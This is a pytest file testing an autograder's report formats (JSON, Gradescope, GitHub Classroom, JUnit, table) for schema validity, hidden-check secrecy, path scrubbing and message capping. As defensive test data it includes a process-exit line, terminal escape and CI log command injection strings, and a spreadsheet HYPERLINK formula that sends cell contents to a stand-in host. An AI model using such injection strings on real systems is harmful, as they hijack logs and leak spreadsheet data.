"""Every output format, validated against its schema (tests/schemas/)."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest

from grader import REPO_ROOT
from grader.course import reports
from grader.course.messages import MESSAGE_LIMIT, capped, without_scratch_paths
from grader.engine.grading import Check, ExerciseGrade, Grade
from grader.engine.runner import CheckResult
from grader.engine.sandbox import Isolation
from grader.engine.scan import Flag
from reporter import REPORTER, SKIP_REASON, reporter_view, run_reporter
from support import ALL_EXERCISES

SCHEMAS = Path(__file__).parent / "schemas"


def _schema(name: str) -> dict:
    return json.loads((SCHEMAS / f"{name}.schema.json").read_text())


def _check(nodeid: str, passed: bool, hidden: bool = False, reason: str = "") -> Check:
    return Check(nodeid, hidden, CheckResult(nodeid, "passed" if passed else "failed", reason, "", 0.25))


@pytest.fixture
def mixed_grade() -> Grade:
    """One exercise passed, one failed on a visible check, one only on a hidden check, flagged code."""
    first, second, third = ALL_EXERCISES[:3]
    return Grade(target="alice", seconds=3.5, exercises=[
        ExerciseGrade(first, [_check("a::test_ok", True)], first.points, ""),
        ExerciseGrade(second, [_check("b::test_values", False, reason="f(x) returned 1; expected 2")], 0,
                      "test_values: f(x) returned 1; expected 2",
                      [Flag(second.path, 3, "import os; os._exit(0)", "exits the process")]),
        ExerciseGrade(third, [_check("c::test_ok", True), _check("c::test_secret", False, True, "secret x")], 0,
                      "a hidden check: secret x"),
    ], forged_results=2)


def test_json_matches_the_schema(mixed_grade):
    data = reports.to_json(mixed_grade)
    jsonschema.validate(data, _schema("results"))
    assert data["needs_review"] and len(data["review"]) == 2  # the flag and the forged lines
    assert data["exercises"][2]["checks"][1]["hidden"] is True


def test_gradescope_results_match_the_schema_and_hide_hidden_checks(mixed_grade):
    data = reports.to_gradescope(mixed_grade)
    jsonschema.validate(data, _schema("gradescope"))
    scored = [t for t in data["tests"] if t["max_score"]]
    assert sum(t["max_score"] for t in scored) == mixed_grade.max_score
    assert sum(t["score"] for t in scored) == data["score"] == mixed_grade.score
    visible_text = "\n".join(t["output"] for t in data["tests"] if t["visibility"] == "visible")
    assert "secret x" not in visible_text, "a hidden check's message leaked to students"
    hidden = [t for t in data["tests"] if t["visibility"] == "hidden"]
    assert any("secret x" in t["output"] for t in hidden)
    assert any(t["name"] == "NEEDS REVIEW" and "exits the process" in t["output"] for t in hidden)


def test_classroom_results_match_the_schema_and_hide_hidden_checks(mixed_grade):
    data = reports.to_classroom(mixed_grade)
    jsonschema.validate(data, _schema("classroom"))
    graded = {name: r for name, r in data["runners"].items() if name != reports.REVIEW_RUNNER}
    assert sum(r["max_score"] for r in graded.values()) == data["max_score"] == mixed_grade.max_score
    assert [r["status"] for r in graded.values()] == ["pass", "fail", "fail"]
    outputs = reports.classroom_outputs(data)
    assert outputs["runners"].split(",") == list(data["runners"])
    assert all(json.loads(base64.b64decode(outputs[name])) == r for name, r in data["runners"].items())
    assert "secret x" not in json.dumps(data)


# --- GitHub Classroom: what its reporter shows students ---------------------------------------------

CLASSROOM_SET = ALL_EXERCISES[:9]  # worth 1, 2 and 3 points: 14 in all
KINDS = ("perfect", "partial", "empty", "needs-review", "process-isolation")
SANDBOXED = Isolation("namespaces", bwrap="/usr/bin/bwrap")


def _classroom_grade(kind: str) -> Grade:
    """One submission of each kind the reporter must total right, over CLASSROOM_SET."""
    exercises = []
    for i, entry in enumerate(CLASSROOM_SET):
        path = f"{entry.check_path}::test_values"
        if kind == "empty":
            exercises.append(ExerciseGrade(entry, [], 0, f"{entry.path} is missing: not graded", [], "missing"))
        elif kind in ("partial", "needs-review") and i % 3 == 1:
            reason = f"f(x) returned 1; expected 2 (exercise {entry.id})"
            exercises.append(ExerciseGrade(entry, [_check(path, False, reason=reason)], 0,
                                           f"test_values: {reason}", [], "wrong-values"))
        elif kind in ("partial", "needs-review") and i % 3 == 2:
            exercises.append(ExerciseGrade(entry, [_check(path, True), _check(path + "_hidden", False, True, "secret x")],
                                           0, "a hidden check: secret x", [], "wrong-values"))
        else:
            exercises.append(ExerciseGrade(entry, [_check(path, True)], entry.points, ""))
    report = Grade(target=kind, seconds=2.0, exercises=exercises,
                   isolation=Isolation("process", "asked for") if kind == "process-isolation" else SANDBOXED)
    if kind == "needs-review":
        exercises[0].flags.append(Flag(CLASSROOM_SET[0].path, 3, "import os; os._exit(0)", "exits the process"))
        report.forged_results = 1
    return report


@pytest.mark.parametrize("kind", KINDS)
def test_the_classroom_reporter_shows_the_true_score(kind):
    report = _classroom_grade(kind)
    result = reports.to_classroom(report)
    jsonschema.validate(result, _schema("classroom"))
    rows, total, classroom = reporter_view(reports.classroom_outputs(result))
    assert [row for row in rows if row[0] != reports.REVIEW_RUNNER] == \
        [(reports.classroom_runner(e.exercise), e.score, e.exercise.points) for e in report.exercises]
    assert total == report.score and classroom == (report.score, report.max_score)
    assert report.score == {"perfect": 14, "partial": 4, "empty": 0, "needs-review": 4, "process-isolation": 14}[kind]


@pytest.mark.parametrize("kind", KINDS)
def test_the_classroom_reporter_shows_reasons_and_review_but_no_isolation_line(kind):
    report = _classroom_grade(kind)
    result = reports.to_classroom(report)
    tests = {name: r["tests"] for name, r in result["runners"].items()}
    for e in report.exercises:
        (test,) = tests[reports.classroom_runner(e.exercise)]
        if e.status == "passed":
            assert test["name"] == e.exercise.id and test["status"] == "pass"
        else:  # the reporter prints a failed test's name only: the reason must be in it
            assert test["name"].startswith(f"{e.exercise.id}: ") and test["status"] == "fail"
            assert reports._student_reason(e) in test["name"] and "\n" not in test["name"]
    shown_text = json.dumps(result["runners"])
    assert "secret x" not in shown_text and "isolation" not in shown_text, "no isolation line for students"
    assert ("NOT sandboxed" in result["isolation"]) == (kind == "process-isolation")
    review = result["runners"].get(reports.REVIEW_RUNNER)
    assert (review is not None) == (kind == "needs-review")
    if review:
        assert review["max_score"] == 0 and review["status"] == "pass", "a flag alone does not fail the run"
        assert [t["name"] for t in review["tests"]] == [f"needs review: {n}" for n in report.review_notes()]


@pytest.mark.skipif(not REPORTER, reason=SKIP_REASON)
@pytest.mark.parametrize("kind", KINDS)
def test_the_real_classroom_reporter_prints_the_true_score(kind):
    report = _classroom_grade(kind)
    rows, classroom, log = run_reporter(reports.classroom_outputs(reports.to_classroom(report)))
    expected = [(reports.classroom_runner(e.exercise), float(e.score), e.exercise.points) for e in report.exercises]
    assert rows[:-1] == expected + ([(reports.REVIEW_RUNNER, 0.0, 0)] if report.needs_review else [])
    assert rows[-1] == ("Total:", float(report.score), report.max_score)
    assert classroom == (report.score, report.max_score)
    assert "Error:" not in log and "isolation" not in log
    for e in report.exercises:
        if e.status == "failed":
            assert f"❌ {e.exercise.id}: {reports._student_reason(e)}" in log


def test_junit_lists_every_check_and_the_review(mixed_grade):
    root = ET.fromstring(reports.to_junit(mixed_grade))
    cases = root.findall(".//testcase")
    assert len(cases) == 4 + 1  # four checks and the needs-review case
    failures = root.findall(".//failure")
    assert {f.get("message") for f in failures} == {"f(x) returned 1; expected 2", "secret x"}
    assert root.find(".//testcase[@name='needs review']/error") is not None
    isolation = {p.get("value") for p in root.findall(".//property[@name='isolation']")}
    assert isolation == {reports.isolation_line(mixed_grade)}, "each exercise's suite says how it was walled in"


def test_table_shows_points_reasons_total_and_review(mixed_grade):
    text = reports.table(mixed_grade)
    assert f"total: {mixed_grade.score} / {mixed_grade.max_score} points (1 of 3 exercises)" in text
    assert "FAIL" in text and "NEEDS REVIEW" in text and "exits the process" in text


def test_cli_writes_every_format_in_one_run(tmp_path):
    """End to end: one `grader grade` writes JSON, Gradescope, Classroom (with step output) and JUnit."""
    github_output = tmp_path / "github_output"
    github_output.write_text("")
    paths = {name: tmp_path / name for name in ("r.json", "gs.json", "cr.json", "junit.xml")}
    env = {"GITHUB_OUTPUT": str(github_output), "PATH": "/usr/bin:/bin"}
    proc = subprocess.run(
        [sys.executable, "-m", "grader.cli", "grade", str(REPO_ROOT / "solutions"),
         "--only", "purity-1,purity-2", "--json", str(paths["r.json"]), "--gradescope", str(paths["gs.json"]),
         "--classroom", str(paths["cr.json"]), "--junit", str(paths["junit.xml"])],
        cwd=tmp_path, capture_output=True, text=True, timeout=300, env=env)
    assert proc.returncode == 0, proc.stderr
    jsonschema.validate(json.loads(paths["r.json"].read_text()), _schema("results"))
    jsonschema.validate(json.loads(paths["gs.json"].read_text()), _schema("gradescope"))
    classroom = json.loads(paths["cr.json"].read_text())
    jsonschema.validate(classroom, _schema("classroom"))
    assert (classroom["score"], classroom["max_score"]) == (2, 2)
    assert [r["status"] for r in classroom["runners"].values()] == ["pass", "pass"]
    ET.parse(paths["junit.xml"])
    step_outputs = dict(line.split("=", 1) for line in github_output.read_text().splitlines())
    assert step_outputs == reports.classroom_outputs(classroom) and step_outputs["runners"] == "purity1,purity2"


def test_junit_root_counts_every_case_and_the_review_suite_has_a_time(mixed_grade):
    unrun = ALL_EXERCISES[3]
    mixed_grade.exercises.append(ExerciseGrade(unrun, [], 0, "no checks ran for this exercise", [], "not-run"))
    root = ET.fromstring(reports.to_junit(mixed_grade))
    for element in (root, *root.findall("testsuite")):
        counts = {key: int(element.get(key)) for key in ("tests", "failures", "errors", "skipped")}
        assert counts == {"tests": len(list(element.iter("testcase"))), "failures": len(list(element.iter("failure"))),
                          "errors": len(list(element.iter("error"))), "skipped": len(list(element.iter("skipped")))}
        assert float(element.get("time")) >= 0
    assert (root.get("tests"), root.get("failures"), root.get("errors")) == ("6", "2", "2"), \
        "four checks, the exercise no check ran for, and the needs-review case"
    review = root.find("testsuite[@name='review']")
    assert review.get("time") == "0.000" and review.find("testcase").get("time") == "0.000"


# --- what messages may carry -------------------------------------------------------------------------

SCRATCH = "/tmp/katas-grade-k3x_9q2z/ws1"


@pytest.fixture
def noisy_grade() -> Grade:
    """Messages as a hostile or unlucky submission makes them: scratch paths, 300 kB of text."""
    first, second = ALL_EXERCISES[:2]
    huge = "ValueError: " + "x" * 300_000
    path = f"FileNotFoundError: '{SCRATCH}/submission/{first.path}.bak' (from {SCRATCH}/tmp/cache.npy)"
    return Grade(target="noisy", seconds=1.0, error="", exercises=[
        ExerciseGrade(first, [_check("a::test_file", False, reason=path), _check("a::test_hidden", False, True, huge)],
                      0, f"test_file: {path}", [], "error"),
        ExerciseGrade(second, [_check("b::test_values", False, reason=huge)], 0, f"test_values: {huge}", [], "error"),
    ])


def _formats(report: Grade) -> dict[str, str]:
    return {"table": reports.table(report), "json": json.dumps(reports.to_json(report)),
            "gradescope": json.dumps(reports.to_gradescope(report)), "classroom": json.dumps(reports.to_classroom(report)),
            "junit": reports.to_junit(report)}


def test_no_format_carries_a_scratch_path_or_an_unbounded_message(noisy_grade):
    first = ALL_EXERCISES[0]
    for name, text in _formats(noisy_grade).items():
        assert "katas-grade" not in text and "/ws1/" not in text, f"{name} shows the grader's scratch folder"
        assert f"exercises/{first.path}.bak" in text or name == "table", name
        assert len(text) < 4 * MESSAGE_LIMIT + 20_000, f"{name} carries the 300 kB message ({len(text)} characters)"
        assert "more characters cut" in text or name == "table", f"{name} cut the message without saying so"
    checks = [c for e in reports.to_json(noisy_grade)["exercises"] for c in e["checks"]]
    assert all(len(c["message"]) <= MESSAGE_LIMIT for c in checks)
    assert "tmp/cache.npy" in checks[0]["message"]
    junit = ET.fromstring(reports.to_junit(noisy_grade))
    assert all(len(f.get("message")) <= MESSAGE_LIMIT for f in junit.iter("failure"))
    gradescope = reports.to_gradescope(noisy_grade)
    assert all(len(t["output"]) <= 3 * MESSAGE_LIMIT for t in gradescope["tests"])


def test_no_format_carries_what_a_terminal_a_ci_log_or_a_spreadsheet_acts_on():
    """A submission's error message reaches every report: its escape sequences (a table row rewritten,
    the rest hidden), the Actions runner's `##[` commands and control characters XML cannot hold are
    written out; a failures.csv cell that starts like a formula is led by an apostrophe."""
    from grader.course.batch import _csv

    first = ALL_EXERCISES[0]
    hostile = "\x1b[2K\x1b[Gpurity-2  1/1     ok\x1b[8m ##[add-mask]0 \x07"
    report = Grade(target="hostile", seconds=1.0, error="", exercises=[
        ExerciseGrade(first, [_check("a::test_file", False, reason=hostile)], 0, f"test_file: {hostile}", [], "error")])
    for name, text in _formats(report).items():
        assert "\x1b" not in text and "\x07" not in text and "##[" not in text, name
    ET.fromstring(reports.to_junit(report))  # well-formed XML
    assert "\\x1b[2K" in reports.table(report)
    rows = _csv([["mallory", first.id, '=HYPERLINK("http://example.invalid/?"&A2,"lesson")'], ["alice", first.id, "ok"]])
    assert "'=HYPERLINK" in rows and "alice" in rows


def test_a_capped_message_says_how_much_was_cut():
    text = "y" * 300_000
    cut = capped(text, 500)
    assert len(cut) == 500 and cut.startswith("y" * 400)
    left = int(re.search(r"\[\.\.\. ([0-9,]+) more characters cut\]$", cut).group(1).replace(",", ""))
    assert left + cut.index(" [...") == len(text)
    assert capped("short", 500) == "short"
    assert without_scratch_paths(f"at {SCRATCH}/exercises/01_purity/test_a.py:3 and "
                                 f"/var/folders/x/T/katas-batch-ab12/unpacked/alice.zip") == \
        "at exercises/01_purity/test_a.py:3 and unpacked/alice.zip"
    assert without_scratch_paths(f"('{SCRATCH}/subject/submission/01_purity/a.py', {SCRATCH}/subject/tmp/o.npy)") \
        == "('exercises/01_purity/a.py', tmp/o.npy)"


def test_grading_a_submission_shows_no_scratch_path_and_caps_messages(tmp_path):
    """End to end: the real grader's scratch folders, the real messages of a submission that
    prints its own path and raises a 300 kB exception."""
    folder = tmp_path / "sub" / "01_purity"
    folder.mkdir(parents=True)
    (folder / "global_config.py").write_text(
        "def set_temperature(value):\n    pass\n\n\ndef scaled_logits(logits):\n    raise FileNotFoundError(__file__)\n")
    (folder / "no_mutation.py").write_text("def sgd_update(params, grads, lr):\n    raise ValueError('x' * 300_000)\n")
    paths = {name: tmp_path / name for name in ("r.json", "gs.json", "cr.json", "junit.xml")}
    proc = subprocess.run(
        [sys.executable, "-m", "grader.cli", "grade", str(tmp_path / "sub"), "--only", "purity-1,purity-2",
         "--json", str(paths["r.json"]), "--gradescope", str(paths["gs.json"]), "--classroom", str(paths["cr.json"]),
         "--junit", str(paths["junit.xml"])], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    for name, path in paths.items():
        text = path.read_text()
        assert "katas-grade" not in text, f"{name} shows the grader's scratch folder"
        assert len(text) < 60_000, f"{name} carries the 300 kB message"
    assert "exercises/01_purity/global_config.py" in paths["r.json"].read_text(), \
        "the path the submission printed reads as the student's own file"
    assert "katas-grade" not in proc.stdout
